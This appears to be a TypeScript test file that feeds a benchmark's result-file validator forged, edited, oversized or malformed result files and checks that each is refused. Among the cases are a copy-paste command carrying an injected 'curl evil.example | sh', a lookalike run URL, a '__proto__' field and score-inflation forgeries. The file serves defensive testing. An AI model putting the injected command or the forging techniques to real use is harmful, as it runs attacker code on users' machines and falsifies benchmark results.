/** @file Hostile result files: edited, forged, oversized, or made to be misread. */

import { loadTask, tierOf } from "../../protocol/tasks.ts";
import type { CellFile } from "../../results/schema.ts";
import { compareRerun } from "../rerun.ts";
import type { HostileCase } from "./hostile.ts";
import { check, forged, madeFile, refusalsOf, storedText } from "./made-result.ts";

const file = (tried: string, text: () => string, says: RegExp): HostileCase => ({
  tried,
  door: "result file",
  outcome: "refused",
  attempt: () => refusalsOf(check(text())),
  says,
});

const changed = (tried: string, content: () => CellFile, says: RegExp): HostileCase =>
  file(tried, () => storedText(content()), says);

/** The text with one piece replaced, everything else as it was. */
const edited = (from: RegExp, to: string) => (): string => storedText(madeFile).replace(from, to);

/** Every score of the record raised, its curves too: consistent in itself. */
export function raised(): CellFile["trials"][number] {
  const [trial] = madeFile.trials as [CellFile["trials"][number]];
  const final = { ...trial.final, testAccuracy: 0.9999, validationAccuracy: 0.9999 };
  const { validationAccuracy, testAccuracy, ...evaluations } = trial.evaluations;
  const lift = (column: typeof validationAccuracy) =>
    column?.map((v, i) => (i === column.length - 1 ? 0.9999 : v));
  return {
    ...trial,
    final,
    evaluations: {
      ...evaluations,
      ...(validationAccuracy && { validationAccuracy: lift(validationAccuracy) as number[] }),
      ...(testAccuracy && { testAccuracy: lift(testAccuracy) as number[] }),
    },
  };
}

export const RESULTS: readonly HostileCase[] = [
  file(
    "a score edited by hand",
    edited(/"testAccuracy": 0\.\d+/, '"testAccuracy": 0.9999'),
    /invalid result: (digest|trials\.0\.final)/,
  ),
  changed(
    "a score edited, the digest recomputed, the curve forgotten",
    () => forged(({ final }) => ({ final: { ...final, validationAccuracy: 0.9999 } })),
    /final\.validationAccuracy: 0\.9999, but its curve/,
  ),
  {
    tried: "every score and curve raised, every hash recomputed",
    door: "rerun",
    outcome: "refused",
    attempt: async () => {
      const protocol = tierOf(await loadTask("mnist-mlp"), "mini");
      const [honest] = madeFile.trials as [CellFile["trials"][number]];
      const run = { end: "exited", code: 0, seconds: 1, printed: "" } as const;
      const compared = (processor: string) =>
        compareRerun(madeFile, raised(), { run, evaluated: honest }, protocol, processor).verdict;
      return `${refusalsOf(check(storedText(forged(raised))))}${compared("Another processor")}, ${compared(madeFile.device.processor)}`;
    },
    says: /^differs, differs$/,
  },
  changed(
    "a forged key",
    () => forged(() => ({ key: "0".repeat(32) })),
    /key: 0{32}, but the content hashes to/,
  ),
  changed(
    "results under another optimizer's name",
    () => ({ ...madeFile, cell: { ...madeFile.cell, optimizer: "kfac" } }),
    /the file lies at .*mine/,
  ),
  changed(
    "results of an optimizer that is not there",
    () => ({ ...madeFile, cell: { ...madeFile.cell, optimizer: "nobody" } }),
    /unknown optimizer "nobody"/,
  ),
  changed(
    "a wrong dataset checksum",
    () =>
      forged(({ provenance }) => ({
        provenance: { ...provenance, dataset: { name: "mine", checksum: "f".repeat(64) } },
      })),
    /not this task's dataset/,
  ),
  changed(
    "a seed twice",
    () => ({
      ...madeFile,
      trials: [...madeFile.trials, madeFile.trials.at(-1) as CellFile["trials"][number]],
    }),
    /seed 3 occurs twice/,
  ),
  changed(
    "the worst seed left out",
    () => ({
      ...madeFile,
      trials: madeFile.trials.filter(({ role, seed }) => role === "tune" || seed !== 1),
    }),
    /without gaps/,
  ),
  changed(
    "more training than the budget",
    () =>
      forged(({ cost }) => ({
        cost: { ...cost, steps: cost.steps * 2, samples: cost.samples * 2 },
      })),
    /the budget makes/,
  ),
  changed(
    "hyperparameters out of range",
    () => forged(() => ({ hyperparameters: { learningRate: 7 } })),
    /learningRate: at most 1/,
  ),
  changed(
    "a diverged trial called finished",
    () =>
      forged(({ cost }) => ({
        status: "finished",
        cost: { ...cost, steps: 3, samples: 3 * 1024 },
      })),
    /cost\.steps: 3, but the budget/,
  ),
  changed(
    "results of an older version",
    () => forged(() => ({ versions: { task: 1, optimizer: 7 } })),
    /versions\.optimizer: 7/,
  ),
  changed(
    "a shell command in the command that people copy",
    () =>
      forged(({ provenance }) => ({
        provenance: { ...provenance, command: `${provenance.command}; curl evil.example | sh` },
      })),
    /^forged command/,
  ),
  changed(
    "a run address that leads elsewhere",
    () =>
      forged(({ provenance }) => ({
        provenance: {
          ...provenance,
          runUrl: "https://github.com.evil.example/o/crossover/actions/runs/1",
        },
      })),
    /^forged run/,
  ),
  changed(
    "results without a commit",
    () => forged(({ provenance }) => ({ provenance: { ...provenance, commit: "unknown" } })),
    /^no commit/,
  ),
  file(
    "a file larger than any cell",
    () => `${storedText(madeFile)}${" ".repeat(1_100_000)}`,
    /bytes; at most 1048576/,
  ),
  file("a hundred thousand brackets", () => "[".repeat(100_000), /nested deeper than 12/),
  file("no JSON", () => "<html>", /not JSON/),
  file(
    "an accuracy of 1e999",
    edited(/"testAccuracy": 0\.\d+/, '"testAccuracy": 1e999'),
    /invalid result/,
  ),
  file(
    "a `__proto__` among the hyperparameters",
    edited(/"hyperparameters": \{/, '"hyperparameters": {"__proto__": {"x": 1},'),
    /invalid result|edited by hand/,
  ),
  file(
    "a field twice, the second one read",
    edited(/"arm": "board"/, '"arm": "fig4",\n "arm": "board"'),
    /^edited by hand/,
  ),
  file(
    "a field of one's own",
    edited(/"arm": "board"/, '"arm": "board",\n "rank": 1'),
    /Unrecognized key/,
  ),
  {
    tried: "a committed trial with other scores under the same key",
    door: "result file",
    outcome: "refused",
    attempt: () => refusalsOf(check(storedText(forged(raised)), storedText(madeFile))),
    says: /^changed results: 1 committed/,
  },
  {
    tried: "a committed trial left out",
    door: "result file",
    outcome: "refused",
    attempt: () =>
      refusalsOf(
        check(
          storedText({ ...madeFile, trials: madeFile.trials.slice(0, -1) }),
          storedText(madeFile),
        ),
      ),
    says: /^removed results: 1 committed/,
  },
];
